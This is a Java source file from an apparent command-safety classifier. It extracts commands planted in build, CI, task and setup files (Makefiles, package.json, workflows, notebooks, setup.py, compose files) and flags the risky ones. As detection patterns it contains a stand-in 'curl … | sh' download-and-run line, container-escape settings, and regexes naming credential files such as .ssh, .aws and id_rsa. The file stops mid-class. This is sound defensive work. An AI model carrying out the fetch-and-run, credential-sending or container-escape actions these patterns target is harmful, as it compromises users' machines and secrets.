package dev.proctor.classify;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import dev.proctor.action.Target;
import dev.proctor.classify.ShellSyntax.Script;
import java.util.ArrayList;
import java.util.HashMap;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.Set;
import java.util.regex.Matcher;
import java.util.regex.Pattern;

/**
 * Commands planted in files that a later build, test or run executes: Makefile and Justfile
 * recipes, package.json scripts, CI workflow steps, editor tasks, pre-commit hooks, Taskfile and
 * tox commands, shell scripts, notebook shell cells, and the shell commands that set-up files in
 * Python, JavaScript and Rust pass to {@code os.system}, {@code execSync} or {@code Command::new}.
 *
 * <p>Why: writing {@code curl … | sh} into a Makefile is an ordinary project write and the later
 * {@code make} an ordinary build, so neither step looks dangerous alone. Each planted command is
 * classified by the shell classifier; one that is more than everyday work (a class other than
 * reading, writing, building or local git, a label, a target outside the project that is known, or
 * a risk tag) gives the write its classes, tags, labels and targets and the tag {@code
 * plants-exec}. Ordinary recipes ({@code go test ./...}, {@code rm -rf build}, {@code node
 * server.js}) add nothing, so ordinary edits flow. Content that cannot be parsed is {@code
 * shell.exec} with {@code plants-exec}: a human looks.
 */
final class PlantedCode {

  private PlantedCode() {}

  /** The kinds of files whose content runs later. */
  enum Kind {
    MAKEFILE,
    JUSTFILE,
    PACKAGE_JSON,
    YAML_COMMANDS,
    VSCODE_TASKS,
    DEVCONTAINER,
    TOX,
    SHELL,
    NOTEBOOK,
    PYTHON,
    JAVASCRIPT,
    RUST_BUILD,
    GO,
    GRADLE,
    MAVEN_POM,
    PYPROJECT,
    JSON_SCRIPTS,
    COMPOSE,
    CARGO_CONFIG,
    CMAKE
  }

  private static final Pattern JS_CONFIG =
      Pattern.compile(
          "(jest|vitest|playwright|cypress|vite|webpack|rollup|next|nuxt|babel|postcss|tailwind"
              + "|eslint|prettier|svelte|astro|karma|\\.eslintrc|\\.mocharc)[.\\w-]*"
              + "\\.(js|cjs|mjs|ts|mts|cts)");

  private static final Pattern JS_SETUP =
      Pattern.compile(
          "(setuptests|setup-tests|test-setup|testsetup|global-setup|globalsetup)"
              + "\\.(js|cjs|mjs|ts|tsx|jsx)");

  /** Test files a test run imports and runs: test_x.py, x_test.py, x.test.ts, x.spec.js. */
  private static final Pattern TEST_FILE =
      Pattern.compile(
          "test_[\\w-]*\\.py|[\\w-]+_test\\.py|[\\w.-]+\\.(test|spec)\\.(js|cjs|mjs|ts|tsx|jsx|mts|cts)");

  private static final Pattern SAFE_WORD = Pattern.compile("[\\w./:=@%+,-]+");

  /** The kind of an absolute or relative path, or null for a file whose content is not run. */
  static Kind kindOf(String path) {
    String p = path.toLowerCase(Locale.ROOT);
    String base = PathFacts.baseName(p);
    if (base.equals("makefile") || base.equals("gnumakefile") || base.endsWith(".mk")) {
      return Kind.MAKEFILE;
    }
    if (base.equals("justfile") || base.equals(".justfile")) {
      return Kind.JUSTFILE;
    }
    if (base.equals("package.json")) {
      return Kind.PACKAGE_JSON;
    }
    boolean yaml = base.endsWith(".yml") || base.endsWith(".yaml");
    if (yaml
        && (p.contains(".github/workflows/")
            || p.contains(".github/actions/")
            || base.equals(".gitlab-ci.yml")
            || base.startsWith("taskfile")
            || base.equals(".pre-commit-config.yaml")
            || base.equals(".pre-commit-hooks.yaml")
            || base.equals("bitbucket-pipelines.yml")
            || base.equals(".travis.yml")
            || base.equals("azure-pipelines.yml")
            || base.equals("lefthook.yml")
            || p.contains(".circleci/")
            || p.contains(".buildkite/"))) {
      return Kind.YAML_COMMANDS;
    }
    if (p.endsWith(".vscode/tasks.json") || p.endsWith(".vscode/launch.json")) {
      return Kind.VSCODE_TASKS;
    }
    if (base.equals("devcontainer.json") || base.equals(".devcontainer.json")) {
      return Kind.DEVCONTAINER;
    }
    if (base.equals("tox.ini")) {
      return Kind.TOX;
    }
    if (base.endsWith(".sh")
        || base.endsWith(".bash")
        || base.endsWith(".zsh")
        || base.equals(".envrc")
        || p.contains(".husky/")
        || p.contains("/.git/hooks/")) {
      return Kind.SHELL;
    }
    if (base.endsWith(".ipynb")) {
      return Kind.NOTEBOOK;
    }
    if (yaml
        && (base.startsWith("docker-compose")
            || base.startsWith("compose.")
            || base.startsWith("compose-"))) {
      return Kind.COMPOSE;
    }
    if (p.endsWith(".cargo/config.toml") || p.endsWith(".cargo/config")) {
      return Kind.CARGO_CONFIG;
    }
    if (base.equals("cmakelists.txt") || base.endsWith(".cmake")) {
      return Kind.CMAKE;
    }
    if (TEST_FILE.matcher(base).matches()
        && (base.endsWith(".py") || p.contains("/tests/") || p.contains("/test/"))) {
      return base.endsWith(".py") ? Kind.PYTHON : Kind.JAVASCRIPT; // the test run runs them
    }
    if (base.equals("conftest.py")
        || base.equals("setup.py")
        || base.equals("noxfile.py")
        || base.equals("tasks.py")
        || base.equals("fabfile.py")
        || base.equals("sitecustomize.py")
        || base.equals("usercustomize.py")
        || base.endsWith(".pth")) {
      return Kind.PYTHON;
    }
    if (JS_CONFIG.matcher(base).matches()
        || JS_SETUP.matcher(base).matches()
        || base.equals("gruntfile.js")
        || base.equals("gulpfile.js")) {
      return Kind.JAVASCRIPT;
    }
    if (base.equals("build.rs")) {
      return Kind.RUST_BUILD;
    }
    if (base.endsWith(".gradle") || base.endsWith(".gradle.kts")) {
      return Kind.GRADLE;
    }
    if (base.equals("pom.xml")) {
      return Kind.MAVEN_POM;
    }
    if (base.equals("pyproject.toml")) {
      return Kind.PYPROJECT;
    }
    if (base.equals("composer.json") || base.equals("deno.json") || base.equals("deno.jsonc")) {
      return Kind.JSON_SCRIPTS;
    }
    if (base.endsWith(".go")) {
      return Kind.GO;
    }
    return null;
  }

  /**
   * Classifies the commands a write plants in {@code path} (absolute, resolved) and records the
   * risky ones in {@code into}. {@code fragment}: the content is part of the file (an edit).
   */
  static void analyze(
      Findings into,
      ClassifyContext ctx,
      Map<String, TaxonomyLoader.UserCommand> userCommands,
      String path,
      String content,
      boolean fragment) {
    Kind kind = kindOf(path);
    if (kind == null
        && path.contains("/__tests__/")
        && path.matches(".*\\.(js|jsx|ts|tsx|mjs|cjs)")) {
      kind = Kind.JAVASCRIPT;
    }
    if (kind == null || content.isEmpty()) {
      return;
    }
    if (kind == Kind.COMPOSE) {
      compose(into, content);
      return;
    }
    List<String> commands;
    try {
      commands = commands(kind, content, fragment);
    } catch (RuntimeException e) {
      commands = null;
    }
    if (commands == null) {
      into.cls(ClassNames.SHELL_EXEC); // content of an executed file that cannot be read
      into.tag("plants-exec");
      return;
    }
    String dir = path.substring(0, Math.max(1, path.lastIndexOf('/')));
    boolean rootRelative = kind == Kind.YAML_COMMANDS || kind == Kind.VSCODE_TASKS;
    analyzeCommands(into, ctx, userCommands, rootRelative ? ctx.cwd().orElse(dir) : dir, commands);
  }

  /** Classifies planted commands that run in {@code cwd} and records the risky ones. */
  static void analyzeCommands(
      Findings into,
      ClassifyContext ctx,
      Map<String, TaxonomyLoader.UserCommand> userCommands,
      String cwd,
      List<String> commands) {
    for (String cmd : commands) {
      if (cmd.isBlank()) {
        continue;
      }
      Findings f = new Findings();
      Script script;
      try {
        script = ShellParser.parse(cmd, 1);
      } catch (ShellSyntaxException e) {
        into.cls(ClassNames.SHELL_EXEC);
        into.tag("plants-exec");
        continue;
      }
      try {
        new ShellWalk(f, ctx, userCommands).script(script, new ShellWalk.State(cwd), 1);
      } catch (RuntimeException | StackOverflowError e) {
        f.cls(ClassNames.SHELL_UNPARSEABLE);
      }
      f.downloadsRun();
      if (f.classes.isEmpty() && f.tags.isEmpty()) {
        continue;
      }
      if (risky(f, ctx)) {
        into.classes.addAll(f.classes);
        into.tags.addAll(f.tags);
        into.labels.addAll(f.labels);
        f.targets.forEach(into::target);
        into.tag("plants-exec");
      }
    }
  }

  /** Classes of everyday work: planted commands of only these classes add nothing to a write. */
  private static final Set<String> EVERYDAY =
      Set.of(
          ClassNames.FS_READ,
          ClassNames.FS_WRITE,
          ClassNames.BUILD_RUN,
          ClassNames.VCS_LOCAL,
          ClassNames.FS_DELETE,
          ClassNames.PACKAGE_INSTALL, // npm ci, pip install -r requirements.txt in CI and recipes
          "infra.read",
          ClassNames.DB_READ);

  /** Tags that do not make a planted command risky by themselves. */
  private static final Set<String> HARMLESS_TAGS =
      Set.of(
          "recursive",
          "force",
          "redirect-write",
          "dynamic",
          "outside-project",
          "input-operands",
          "function",
          "unknown-command",
          "local-program",
          "many-targets",
          "project-code");

  private static boolean risky(Findings f, ClassifyContext ctx) {
    if (!f.labels.isEmpty()) {
      return true;
    }
    for (String t : f.tags) {
      if (!HARMLESS_TAGS.contains(t)) {
        return true;
      }
    }
    String root = ctx.cwd().orElse(null);
    for (Target t : f.targets) {
      String p = t.value();
      if (t.kind() == Target.Kind.PATH
          && p.startsWith("/") // not a variable or substitution: the script's caller decides those
          && (root == null || !PathFacts.isInside(p, root))) {
        return true;
      }
    }
    boolean runsProjectFiles =
        !f.executed.isEmpty()
            && root != null
            && f.executed.stream().allMatch(p -> PathFacts.isInside(p, root));
    for (String c : f.classes) {
      // node server.js, ./scripts/gen.sh: the project's own code, run as a build runs it.
      if (!EVERYDAY.contains(c) && !(c.equals(ClassNames.SHELL_EXEC) && runsProjectFiles)) {
        return true;
      }
    }
    return false;
  }

  // ------------------------------------------------------------------ extraction per kind

  /** JSON reading, created on the first write of a JSON file that runs later. */
  private static final class Json {
    static final ObjectMapper MAPPER = new ObjectMapper();
  }

  /** The commands content plants; null if content of that kind cannot be read. */
  static List<String> commands(Kind kind, String content, boolean fragment) {
    return switch (kind) {
      case MAKEFILE -> makefile(content);
      case JUSTFILE -> justfile(content);
      case PACKAGE_JSON -> packageJson(content, fragment);
      case YAML_COMMANDS -> yamlCommands(content, fragment);
      case VSCODE_TASKS, DEVCONTAINER -> jsonCommands(content, fragment);
      case TOX -> tox(content);
      case SHELL -> List.of(content);
      case NOTEBOOK -> notebook(content, fragment);
      case PYTHON -> sourceCalls(content, PYTHON_CALL);
      case JAVASCRIPT -> sourceCalls(content, JS_CALL);
      case RUST_BUILD -> rust(content);
      case GO -> goGenerate(content);
      case GRADLE -> gradle(content);
      case MAVEN_POM -> pom(content);
      case PYPROJECT -> pyprojectTasks(content);
      case JSON_SCRIPTS -> jsonStrings(content, fragment);
      case COMPOSE -> List.of();
      case CARGO_CONFIG -> cargoConfig(content);
      case CMAKE -> cmake(content);
    };
  }

  /** Keys of a compose service that break it out of its container, and their breaking values. */
  private static final Pattern COMPOSE_ESCAPE =
      Pattern.compile(
          "(?m)^\\s*(?:privileged:\\s*(?:true|yes)|(?:pid|network_mode|ipc|userns_mode|uts):\\s*"
              + "[\"']?host[\"']?|cap_add:[^\\n]*(?:SYS_ADMIN|ALL|SYS_PTRACE|SYS_MODULE)"
              + "|-\\s*[\"']?(?:SYS_ADMIN|ALL|SYS_PTRACE|SYS_MODULE)[\"']?\\s*$)");

  private static final Pattern COMPOSE_MOUNT =
      Pattern.compile("(?m)^\\s*-\\s*[\"']?([^\\s\"':#]+):[^\\s\"']+[\"']?\\s*$");

  /**
   * A compose file the next {@code docker compose up} runs: a service made privileged, put in the
   * host's namespaces or given the Docker socket or the host's {@code /} is {@code
   * container.escape}, as {@code docker run} with those flags is.
   */
  static void compose(Findings into, String content) {
    boolean escape = COMPOSE_ESCAPE.matcher(content).find();
    Matcher m = COMPOSE_MOUNT.matcher(content);
    while (m.find()) {
      escape |= CommandTable.isContainerEscapeMount(m.group(1) + ":/x");
    }
    if (escape) {
      into.cls(ClassNames.CONTAINER_ESCAPE);
      into.tag("plants-exec");
    }
  }

  private static final Pattern CARGO_PROGRAM =
      Pattern.compile(
          "(?m)^\\s*(?:runner|rustc-wrapper|rustc-workspace-wrapper|rustc|rustdoc|linker)\\s*=\\s*"
              + "(\"(?:[^\"\\\\]|\\\\.)*\"|'[^']*'|\\[[^\\]]*])");

  /** .cargo/config.toml: the runner, wrappers and linker cargo runs, as command lines. */
  static List<String> cargoConfig(String content) {
    List<String> out = new ArrayList<>();
    Matcher m = CARGO_PROGRAM.matcher(content);
    while (m.find()) {
      String v = m.group(1);
      StringBuilder cmd = new StringBuilder();
      Matcher lit = STRING_LITERAL.matcher(v);
      while (lit.find()) {
        String x = lit.group(1) != null ? unescapeToml(lit.group(1)) : lit.group(2);
        cmd.append(cmd.length() == 0 ? "" : " ").append(v.startsWith("[") ? shellQuote(x) : x);
      }
      out.add(cmd.toString());
    }
    return out;
  }

  private static String unescapeToml(String s) {
    return s.replace("\\\"", "\"").replace("\\\\", "\\");
  }

  private static final Pattern CMAKE_CALL =
      Pattern.compile(
          "(?is)\\b(?:execute_process|add_custom_command|add_custom_target)\\s*\\(((?:[^()\"]|\"(?:[^\"\\\\]|\\\\.)*\")*)\\)");

  private static final Set<String> CMAKE_KEYWORDS =
      Set.of(
          "COMMAND",
          "WORKING_DIRECTORY",
          "OUTPUT",
          "DEPENDS",
          "COMMENT",
          "VERBATIM",
          "RESULT_VARIABLE",
          "RESULTS_VARIABLE",
          "OUTPUT_VARIABLE",
          "ERROR_VARIABLE",
          "INPUT_FILE",
          "OUTPUT_FILE",
          "ERROR_FILE",
          "OUTPUT_QUIET",
          "ERROR_QUIET",
          "TIMEOUT",
          "BYPRODUCTS",
          "MAIN_DEPENDENCY",
          "IMPLICIT_DEPENDS",
          "USES_TERMINAL",
          "ALL",
          "SOURCES",
          "COMMAND_EXPAND_LISTS",
          "JOB_POOL",
          "TARGET",
          "PRE_BUILD",
          "PRE_LINK",
          "POST_BUILD",
          "ECHO_OUTPUT_VARIABLE",
          "ECHO_ERROR_VARIABLE",
          "COMMAND_ECHO",
          "ENCODING",
          "OUTPUT_STRIP_TRAILING_WHITESPACE",
          "ERROR_STRIP_TRAILING_WHITESPACE",
          "APPEND",
          "DEPFILE",
          "CODEGEN");

  /**
   * CMake files: the {@code COMMAND} lines of {@code execute_process} (run when the project is
   * configured) and of custom commands and targets (run by the build), with {@code
   * ${CMAKE_COMMAND}} as {@code cmake}, the source and binary directories as {@code .} and {@code
   * build}, generator expressions as {@code build} and other variables as plain words.
   */
  static List<String> cmake(String content) {
    List<String> out = new ArrayList<>();
    Matcher m = CMAKE_CALL.matcher(content);
    while (m.find()) {
      Matcher arg = Pattern.compile("\"((?:[^\"\\\\]|\\\\.)*)\"|([^\\s\"]+)").matcher(m.group(1));
      StringBuilder cmd = null;
      while (arg.find()) {
        String quoted = arg.group(1);
        String word = quoted != null ? quoted : arg.group(2);
        if (quoted == null && CMAKE_KEYWORDS.contains(word)) {
          if (cmd != null && cmd.length() > 0) {
            out.add(cmd.toString());
          }
          cmd = word.equals("COMMAND") ? new StringBuilder() : null;
          continue;
        }
        if (cmd == null) {
          continue;
        }
        word =
            word.replace("${CMAKE_COMMAND}", "cmake")
                .replaceAll("\\$\\{(?:CMAKE_|CMAKE_CURRENT_|PROJECT_)SOURCE_DIR}", ".")
                .replaceAll("\\$\\{(?:CMAKE_|CMAKE_CURRENT_|PROJECT_)BINARY_DIR}", "build")
                .replaceAll("\\$<[^>]*>", "build") // generator expressions: build outputs
                .replaceAll("\\$\\{(?:Python3?_EXECUTABLE|PYTHON_EXECUTABLE)}", "python3")
                .replaceAll("\\$\\{([A-Za-z0-9_]+)}", "$1");
        cmd.append(cmd.length() == 0 ? "" : " ").append(quoted != null ? shellQuote(word) : word);
      }
      if (cmd != null && cmd.length() > 0) {
        out.add(cmd.toString());
      }
    }
    return out;
  }

  private static final Pattern MAKE_VAR =
      Pattern.compile("^([A-Za-z_][A-Za-z0-9_]*)\\s*[:?+]?=\\s*(.*)$");

  /** Recipe lines (tab-indented), with make's own expansions replaced by plain words. */
  static List<String> makefile(String content) {
    Map<String, String> vars = new HashMap<>();
    List<String> out = new ArrayList<>();
    String[] lines = content.replace("\\\n", " ").split("\n");
    for (String line : lines) {
      Matcher m = MAKE_VAR.matcher(line);
      if (!line.startsWith("\t") && m.matches()) {
        vars.putIfAbsent(m.group(1), m.group(2).strip());
        for (String shell : makeShellCalls(line)) {
          out.add(shell);
        }
        continue;
      }
      if (line.startsWith("\t")) {
        String r = line.substring(1).strip();
        while (!r.isEmpty() && (r.charAt(0) == '@' || r.charAt(0) == '-' || r.charAt(0) == '+')) {
          r = r.substring(1);
        }
        out.addAll(makeShellCalls(r));
        out.add(makeExpand(r, vars, 0));
      } else {
        out.addAll(makeShellCalls(line));
      }
    }
    return out;
  }

  private static List<String> makeShellCalls(String line) {
    List<String> out = new ArrayList<>(0);
    int i = line.indexOf("$(shell ");
    while (i >= 0) {
      int end = matchingParen(line, i + 1);
      out.add(line.substring(i + 8, end < 0 ? line.length() : end));
      i = line.indexOf("$(shell ", i + 8);
    }
    return out;
  }

  private static int matchingParen(String s, int open) {
    int level = 0;
    for (int k = open; k < s.length(); k++) {
      if (s.charAt(k) == '(') {
        level++;
      } else if (s.charAt(k) == ')' && --level == 0) {
        return k;
      }
    }
    return -1;
  }

  private static final Map<String, String> MAKE_PROGRAMS =
      Map.of("MAKE", "make", "CC", "cc", "CXX", "c++", "GO", "go", "RM", "rm -f", "CP", "cp");

  /** Replaces {@code $(VAR)}, {@code ${VAR}}, {@code $@} ... with their text or a plain word. */
  static String makeExpand(String r, Map<String, String> vars, int depth) {
    StringBuilder sb = new StringBuilder(r.length());
    for (int i = 0; i < r.length(); i++) {
      char c = r.charAt(i);
      if (c != '$' || i + 1 >= r.length()) {
        sb.append(c);
        continue;
      }
      char n = r.charAt(i + 1);
      if (n == '$') {
        sb.append('$');
        i++;
      } else if (n == '(' || n == '{') {
        int end = n == '(' ? matchingParen(r, i + 1) : r.indexOf('}', i + 2);
        if (end < 0) {
          sb.append(c);
          continue;
        }
        String inner = r.substring(i + 2, end);
        String name = inner.strip();
        String value;
        if (name.startsWith("shell ")) {
          value = "x"; // classified as a command of its own
        } else if (name.indexOf(' ') >= 0 || name.indexOf(',') >= 0) {
          value = "x"; // a make function: $(wildcard ...), $(patsubst ...)
        } else if (vars.containsKey(name) && depth < 8) {
          value = makeExpand(vars.get(name), vars, depth + 1);
        } else {
          value = MAKE_PROGRAMS.getOrDefault(name, name.toLowerCase(Locale.ROOT));
        }
        sb.append(value);
        i = end;
      } else {
        sb.append("x"); // $@ $< $^ $* $? $+ $|
        i++;
      }
    }
    return sb.toString();
  }

  /** Recipe lines of a Justfile: indented lines under a recipe, {@code {{var}}} as a word. */
  static List<String> justfile(String content) {
    List<String> out = new ArrayList<>();
    for (String line : content.split("\n")) {
      if (!line.isEmpty() && (line.charAt(0) == ' ' || line.charAt(0) == '\t')) {
        String r = line.strip();
        while (!r.isEmpty() && (r.charAt(0) == '@' || r.charAt(0) == '-')) {
          r = r.substring(1);
        }
        out.add(r.replaceAll("\\{\\{[^}]*}}", "x"));
      }
    }
    return out;
  }

  /** npm lifecycle scripts and the names projects give their usual ones. */
  private static final Set<String> SCRIPT_NAMES =
      Set.of(
          "preinstall",
          "install",
          "postinstall",
          "prepare",
          "prepublish",
          "prepublishonly",
          "prepack",
          "postpack",
          "preuninstall",
          "postuninstall",
          "pretest",
          "test",
          "posttest",
          "prestart",
          "start",
          "poststart",
          "prebuild",
          "build",
          "postbuild",
          "dev",
          "lint",
          "format",
          "serve",
          "preview",
          "typecheck",
          "check",
          "watch",
          "ci",
          "deploy",
          "release");

  private static final Pattern JSON_PAIR =
      Pattern.compile("\"([^\"\\\\]+)\"\\s*:\\s*\"((?:[^\"\\\\]|\\\\.)*)\"");

  /** package.json: the values of {@code scripts}; in a fragment, pairs named like scripts. */
  static List<String> packageJson(String content, boolean fragment) {
    List<String> out = new ArrayList<>();
    if (!fragment) {
      try {
        JsonNode root = Json.MAPPER.readTree(content);
        JsonNode scripts = root.get("scripts");
        if (scripts != null && scripts.isObject()) {
          scripts.properties().forEach(e -> out.add(e.getValue().asText()));
        }
        return out;
      } catch (java.io.IOException e) {
        // not whole JSON: read it like a fragment
      }
    }
    boolean scripts = content.contains("\"scripts\"");
    Matcher m = JSON_PAIR.matcher(content);
    while (m.find()) {
      String key = m.group(1);
      if (scripts || SCRIPT_NAMES.contains(key.toLowerCase(Locale.ROOT)) || key.indexOf(':') > 0) {
        out.add(unescapeJson(m.group(2)));
      }
    }
    return out;
  }

  private static String unescapeJson(String s) {
    try {
      return Json.MAPPER.readValue("\"" + s + "\"", String.class);
    } catch (java.io.IOException e) {
      return s;
    }
  }

  /** Keys of CI, task-runner and hook files whose values are commands. */
  private static final Set<String> COMMAND_KEYS =
      Set.of(
          "run",
          "script",
          "before_script",
          "after_script",
          "before_install",
          "install",
          "cmds",
          "cmd",
          "command",
          "commands",
          "entry",
          "args",
          "postCreateCommand",
          "postStartCommand",
          "postAttachCommand",
          "onCreateCommand",
          "updateContentCommand",
          "initializeCommand");

  /** YAML of workflows, CI and task runners: every string under a command key. */
  static List<String> yamlCommands(String content, boolean fragment) {
    String text = workflowExpressions(content);
    List<dev.proctor.yaml.YamlProblem> problems = new ArrayList<>();
    dev.proctor.yaml.YamlFile yaml = new dev.proctor.yaml.YamlFile("content", text, problems::add);
    JsonNode root =
        yaml.parseOrNothing(Taxonomy.MAX_FILE_BYTES)
            .flatMap(n -> yaml.json(n, "the content"))
            .orElse(null);
    if (root == null || !problems.isEmpty()) {
      // A fragment, or YAML the strict reader refuses (anchors, which CI files use): line by line.
      return yamlFragment(text);
    }
    List<String> out = new ArrayList<>();
    collect(root, false, out, 0);
    if (fragment && out.isEmpty()) {
      return yamlFragment(text);
    }
    return out;
  }

  /** {@code - run: cmd} and list items of an edited fragment, line by line. */
  private static List<String> yamlFragment(String text) {
    List<String> out = new ArrayList<>();
    for (String line : text.split("\n")) {
      String l = line.strip();
      if (l.startsWith("- ")) {
        l = l.substring(2).strip();
      }
      int colon = l.indexOf(": ");
      if (colon > 0 && COMMAND_KEYS.contains(l.substring(0, colon))) {
        l = l.substring(colon + 2);
      } else if (colon > 0 || l.endsWith(":")) {
        continue;
      }
      if (l.startsWith("|") || l.startsWith(">")) {
        continue;
      }
      out.add(l);
    }
    return out;
  }

  /**
   * GitHub's {@code ${{ … }}} expressions become plain words; a secret becomes {@code
   * $NAME_SECRET}, so that printing or sending it is labelled {@code secret}.
   */
  static String workflowExpressions(String content) {
    Matcher m = Pattern.compile("\\$\\{\\{\\s*([^}]*?)\\s*}}").matcher(content);
    StringBuilder sb = new StringBuilder();
    while (m.find()) {
      String expr = m.group(1);
      String rep =
          expr.startsWith("secrets.")
              ? "$" + expr.substring(8).replaceAll("\\W", "_").toUpperCase(Locale.ROOT) + "_SECRET"
              : "x";
      m.appendReplacement(sb, Matcher.quoteReplacement(rep));
    }
    m.appendTail(sb);
    return sb.toString();
  }

  private static void collect(JsonNode n, boolean underCommand, List<String> out, int depth) {
    if (n == null || depth > 40) {
      return;
    }
    if (n.isTextual() && underCommand) {
      out.add(n.textValue());
    } else if (n.isArray()) {
      for (JsonNode e : n) {
        collect(e, underCommand, out, depth + 1);
      }
    } else if (n.isObject()) {
      n.properties()
          .forEach(e -> collect(e.getValue(), COMMAND_KEYS.contains(e.getKey()), out, depth + 1));
    }
  }

  /** tasks.json, launch.json, devcontainer.json: command strings, with their arguments. */
  static List<String> jsonCommands(String content, boolean fragment) {
    List<String> out = new ArrayList<>();
    try {
      JsonNode root = Json.MAPPER.readTree(stripJsonComments(content));
      commandObjects(root, out, 0);
      return out;
    } catch (java.io.IOException e) {
      if (!fragment) {
        return null;
      }
    }
    Matcher m = JSON_PAIR.matcher(content);
    while (m.find()) {
      if (COMMAND_KEYS.contains(m.group(1))) {
        out.add(unescapeJson(m.group(2)));
      }
    }
    return out;
  }

  private static void commandObjects(JsonNode n, List<String> out, int depth) {
    if (n == null || depth > 40) {
      return;
    }
    if (n.isObject()) {
      StringBuilder cmd = null;
      for (var e : n.properties()) {
        if (COMMAND_KEYS.contains(e.getKey()) && !e.getKey().equals("args")) {
          if (e.getValue().isTextual()) {
            cmd = new StringBuilder(e.getValue().textValue());
          } else if (e.getValue().isArray()) {
            cmd = new StringBuilder();
            for (JsonNode a : e.getValue()) {
              cmd.append(cmd.length() == 0 ? "" : " ").append(shellQuote(a.asText()));
            }
          }
        } else {
          commandObjects(e.getValue(), out, depth + 1);
        }
      }
      JsonNode args = n.get("args");
      if (cmd != null && args != null && args.isArray()) {
        for (JsonNode a : args) {
          cmd.append(' ').append(shellQuote(a.asText()));
        }
      }
      if (cmd != null) {
        out.add(cmd.toString());
      }
    } else if (n.isArray()) {
      for (JsonNode e : n) {
        commandObjects(e, out, depth + 1);
      }
    }
  }

  private static String stripJsonComments(String s) {
    return s.replaceAll("(?m)^\\s*//.*$", "");
  }

  /** A word as the shell would read it back: plain when safe, else single-quoted. */
  static String shellQuote(String s) {
    return SAFE_WORD.matcher(s).matches() ? s : "'" + s.replace("'", "'\\''") + "'";
  }

  /** tox.ini: the lines of {@code commands =} and their continuation lines. */
  static List<String> tox(String content) {
    List<String> out = new ArrayList<>();
    boolean in = false;
    for (String line : content.split("\n")) {
      String l = line.strip();
      if (l.startsWith("commands") && l.contains("=")) {
        in = true;
        String first = l.substring(l.indexOf('=') + 1).strip();
        if (!first.isEmpty()) {
          out.add(first);
        }
      } else if (in && !line.isEmpty() && Character.isWhitespace(line.charAt(0))) {
        out.add(l.replaceAll("\\{[^}]*}", "x"));
      } else {
        in = false;
      }
    }
    return out;
  }

  /** Notebook cells: {@code !cmd} lines and {@code %%bash} cells, Python calls in code cells. */
  static List<String> notebook(String content, boolean fragment) {
    List<String> sources = new ArrayList<>();
    try {
      JsonNode root = Json.MAPPER.readTree(content);
      JsonNode cells = root.get("cells");
      if (cells != null) {
        for (JsonNode c : cells) {
          JsonNode src = c.get("source");
          StringBuilder sb = new StringBuilder();
          if (src != null && src.isArray()) {
            src.forEach(l -> sb.append(l.asText()));
          } else if (src != null) {
            sb.append(src.asText());
          }
          sources.add(sb.toString());
        }
      }
    } catch (java.io.IOException e) {
      if (!fragment) {
        return null;
      }
      sources.add(content);
    }
    List<String> out = new ArrayList<>();
    for (String cell : sources) {
      String trimmed = cell.strip();
      if (trimmed.startsWith("%%bash")
          || trimmed.startsWith("%%sh")
          || trimmed.startsWith("%%script")) {
        out.add(
            trimmed.substring(
                trimmed.indexOf('\n') < 0 ? trimmed.length() : trimmed.indexOf('\n')));
        continue;
      }
      for (String line : cell.split("\n")) {
        String l = line.strip();
        if (l.startsWith("!")) {
          out.add(l.substring(1));
        } else if (l.startsWith("%sx ") || l.startsWith("%system ")) {
          out.add(l.substring(l.indexOf(' ') + 1));
        }
      }
      out.addAll(sourceCalls(cell, PYTHON_CALL));
    }
    return out;
  }

  /** Python calls that run a shell command given as their first string argument. */
  private static final Pattern PYTHON_CALL =
      Pattern.compile(
          "\\b(?:os\\.system|os\\.popen|os\\.exec\\w*|subprocess\\.(?:run|call|check_call"
              + "|check_output|Popen|getoutput|getstatusoutput)|pty\\.spawn|commands\\.getoutput)"
              + "\\s*\\(\\s*(\\[[^\\]]*]|[rbuf]?\"(?:[^\"\\\\]|\\\\.)*\"|[rbuf]?'(?:[^'\\\\]|\\\\.)*')");

  /** JavaScript calls that run a shell command given as their first string argument. */
  private static final Pattern JS_CALL =
      Pattern.compile(
          "\\b(?:exec|execSync|spawn|spawnSync|execFile|execFileSync|execa|execaSync|\\$)"
              + "\\s*\\(\\s*(\\[[^\\]]*]|\"(?:[^\"\\\\]|\\\\.)*\"|'(?:[^'\\\\]|\\\\.)*'|`[^`$]*`)"
              + "(?:\\s*,\\s*(\\[[^\\]]*]))?");

  private static final Pattern STRING_LITERAL =
      Pattern.compile("\"((?:[^\"\\\\]|\\\\.)*)\"|'((?:[^'\\\\]|\\\\.)*)'|`([^`]*)`");

  /**
   * The shell commands a source file passes to exec-style calls: a string is a command line, a list
   * of strings (or a program and an argument list) is joined; code that downloads and evaluates
   * ({@code exec(urlopen(...).read())}) counts as {@code curl | sh}.
   */
  static List<String> sourceCalls(String content, Pattern call) {
    List<String> out = new ArrayList<>();
    Matcher m = call.matcher(content);
    while (m.find()) {
      StringBuilder cmd = new StringBuilder();
      for (int g = 1; g <= m.groupCount(); g++) {
        String part = m.group(g);
        if (part == null) {
          continue;
        }
        Matcher lit = STRING_LITERAL.matcher(part);
        while (lit.find()) {
          String s =
              lit.group(1) != null
                  ? lit.group(1)
                  : lit.group(2) != null ? lit.group(2) : lit.group(3);
          cmd.append(cmd.length() == 0 ? "" : " ")
              .append(part.startsWith("[") || g > 1 ? shellQuote(s) : s);
        }
      }
      out.add(cmd.toString());
    }
    boolean fetches =
        content.contains("urlopen(")
            || content.contains("requests.get(")
            || content.contains("fetch(")
            || content.contains("https.get(")
            || content.contains("http.get(");
    boolean evaluates =
        Pattern.compile("\\b(?:exec|eval)\\s*\\(").matcher(content.replace("execSync(", "")).find()
            || content.contains("new Function(");
    if (fetches && evaluates) {
      out.add("curl -s https://unknown.invalid/ | sh");
    }
    sent(content, out);
    return out;
  }

  private static final Pattern SENDS =
      Pattern.compile(
          "urlopen\\([^)]*data\\s*=|requests\\.(?:post|put|patch)\\(|httpx\\.(?:post|put)\\("
              + "|\\bdata\\s*=|\\bjson\\s*=|method\\s*:\\s*['\"](?:POST|PUT)|\\bbody\\s*:"
              + "|\\.(?:post|put)\\(|\\.write\\(|\\.send\\(");

  private static final Pattern NETWORK =
      Pattern.compile(
          "urlopen\\(|urllib\\.request|requests\\.|httpx\\.|http\\.client|\\bfetch\\(|axios"
              + "|https?\\.request\\(|socket\\.|net\\.connect|new WebSocket");

  private static final Pattern SENSITIVE =
      Pattern.compile(
          "os\\.environ|process\\.env\\b|\\.aws|\\.ssh|credentials|id_rsa|id_ed25519|\\.netrc"
              + "|\\.npmrc|\\.pypirc|\\.kube|\\.docker|\\.env\\b|getenv");

